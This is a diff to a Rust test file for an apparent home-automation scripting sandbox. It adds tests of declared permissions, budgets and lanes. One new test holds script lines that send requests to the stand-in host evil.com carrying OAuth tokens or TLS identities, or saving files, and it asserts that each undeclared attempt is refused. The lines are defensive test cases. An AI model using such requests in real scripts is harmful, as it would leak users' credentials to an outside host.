@@ -33,6 +33,7 @@ fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfi
         targets: json!({
             "light": {
                 "porch": {"driver": "wled", "url": "http://10.0.0.5"},
+                "yard": {"driver": "wled", "url": "https://10.0.0.7", "tls": "yard", "oauth": "yard"},
                 "hall": {"driver": "hue", "url": "https://10.0.0.2", "key": {"$secret": "light.hall.key"}, "id": "abc"},
             },
             "message": {
@@ -157,6 +158,10 @@ fn nothing_undeclared_is_reached_by_any_route() {
         "log::info(state::get(\"other.\" + \"x\"));",
         "state::keys(\"\" + \"\");",
         "state::keys();",
+        "budget(\"s\" + \"ms\", 1, \"1d\");",
+        "log::info(budget_left(\"s\" + \"ms\", 1, \"1d\"));",
+        "budget(\"sms\", 1, \"1d\");",
+        "budget(\"gated\", 1, \"1d\");",
         "wait_for(\"state.\" + \"changed\", #{ within: \"1m\" }, |e| log::info(e.data));",
         "wait_for(\"state.*\", #{ within: \"1m\" }, |e| log::info(e.data));",
     ] {
@@ -183,7 +188,7 @@ fn nothing_undeclared_is_reached_by_any_route() {
 #[test]
 fn declared_things_are_reached() {
     let source = "//! needs: http gate.lan, light porch, message office, file a.csv
-//! needs: command backup, emit gate.*, event **, state visits.
+//! needs: command backup, emit gate.*, event **, state visits., budget sms
 on(\"**\", |event| {
     http::send(\"http://gate.lan/open\");
     light::flash(\"porch\");
@@ -193,10 +198,16 @@ on(\"**\", |event| {
     emit(\"gate.opened\");
     state::set(\"visits.today\", 1);
     state::set(\"gate.last\", 1);
+    if !budget(\"sms\", 1, \"1d\") || !budget(\"gate\", 1, \"1d\") { throw \"no budget\"; }
+    http::send(\"http://gate.lan/\", #{ lane: \"http:siren.lan\" });
 });";
     let (run, asked) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
     let run = ok(run);
-    assert_eq!((run.actions.len(), run.emitted.len()), (5, 1));
+    assert_eq!((run.actions.len(), run.emitted.len()), (6, 1));
+    assert_eq!(
+        run.actions[5].lane, "gate/http:siren.lan",
+        "a lane of its own"
+    );
     assert_eq!(asked.len(), 1, "the state of the lamp was asked for");
     assert_eq!(
         run.actions[0].args["hosts"],
@@ -257,6 +268,30 @@ on(\"**\", |event| {
 });";
     let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(ok(run).actions.len(), 3);
+}
+
+#[test]
+fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
+    let header = "//! needs: event **, http evil.com, light *, message office";
+    for body in [
+        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
+        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
+        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
+        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
+        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
+    ] {
+        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
+        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
+        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
+        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
+    }
+    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
+on(\"**\", |event| {
+    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
+    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
+});";
+    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(ok(run).actions.len(), 2);
 }
 
 /// What is wrong with a script that hears this under this header; nothing when it loads.
